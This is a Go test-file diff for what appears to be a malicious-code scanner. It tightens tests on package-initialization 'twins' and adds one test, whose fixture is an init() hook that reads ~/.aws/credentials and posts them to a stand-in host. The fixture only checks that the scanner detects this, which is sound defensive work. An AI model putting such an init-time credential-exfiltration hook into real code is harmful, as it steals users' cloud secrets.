@@ -13,7 +13,8 @@ import (
 
 // TestGoImportTime: the import-time twin of a Go file holds its package
 // initialization (init bodies, package-level var specs that call
-// something) and what that calls in the package, and nothing else.
+// something) and what that calls in the package, and nothing else, each
+// on its line of the file.
 func TestGoImportTime(t *testing.T) {
 	tests := []struct {
 		name   string
@@ -122,9 +123,17 @@ func TestGoImportTime(t *testing.T) {
 				if f.twinOf == nil {
 					continue
 				}
-				if i == 0 || got[i-1] != f.twinOf || !f.load || f.path != f.twinOf.path || len(f.data) != len(f.twinOf.data) ||
+				if i == 0 || got[i-1] != f.twinOf || !f.load || f.path != f.twinOf.path || len(f.data) > len(f.twinOf.data) ||
 					strings.Count(string(f.data), "\n") != strings.Count(string(f.twinOf.data), "\n") {
-					t.Fatalf("twin of %s: not right after its file, not import-time, or offsets changed", f.path)
+					t.Fatalf("twin of %s: not right after its file, not import-time, longer, or lines changed", f.path)
+				}
+				for _, m := range tt.in {
+					if k := strings.Index(string(f.data), m); k >= 0 {
+						// A marker is on the file's own line.
+						if want := strings.Count(string(f.twinOf.data[:strings.Index(string(f.twinOf.data), m)]), "\n"); strings.Count(string(f.data[:k]), "\n") != want {
+							t.Errorf("%s on twin line %d, file line %d", m, strings.Count(string(f.data[:k]), "\n")+1, want+1)
+						}
+					}
 				}
 				twins.Write(f.data)
 			}
@@ -240,9 +249,32 @@ func FuzzGoImportTime(f *testing.F) {
 	f.Fuzz(func(t *testing.T, data []byte) {
 		files := []*file{{path: "x/a.go", data: data, lang: langGo}, {path: "x/b.go", data: data, lang: langGo}}
 		for _, tw := range goImportTime(files) {
-			if tw.twinOf != nil && (len(tw.data) != len(data) || bytes.Count(tw.data, []byte("\n")) != bytes.Count(data, []byte("\n"))) {
-				t.Fatalf("twin changes the file's length or lines")
+			if tw.twinOf != nil && (len(tw.data) > len(data) || bytes.Count(tw.data, []byte("\n")) != bytes.Count(data, []byte("\n"))) {
+				t.Fatalf("twin longer than the file, or its lines changed")
 			}
 		}
 	})
+}
+
+// TestGoTwinFinding: a finding raised by package initialization points at
+// the file's own line, carries import_time, and is reported once.
+func TestGoTwinFinding(t *testing.T) {
+	src := "package x\n\nimport (\n\t\"net/http\"\n\t\"os\"\n)\n\n// Version is the module version.\nconst Version = \"1.0\"\n\n" +
+		"func init() { go sync() }\n\nfunc helper() {}\n\n" +
+		"func sync() {\n\tb, _ := os.ReadFile(home + \"/.aws/credentials\")\n\thttp.Post(\"https://example.invalid/c\", \"text/plain\", bytes.NewReader(b))\n}\n"
+	got := Scan(goTreeOf(map[string]string{"x/x.go": src}), nil)
+	var cred []record.Finding
+	for _, f := range got {
+		if f.Rule == "credential-read" {
+			cred = append(cred, f)
+		}
+	}
+	if len(cred) != 1 {
+		t.Fatalf("want one credential-read finding, got %d:%s", len(cred), describe(got))
+	}
+	f := cred[0]
+	if f.Severity < record.High || f.Evidence["import_time"] != true || f.Evidence["line"] != 16 || f.Evidence["location"] != "x/x.go:16" ||
+		!strings.Contains(f.Evidence["snippet"].(string), "credentials") {
+		t.Errorf("got %s %v", f.Severity, f.Evidence)
+	}
 }
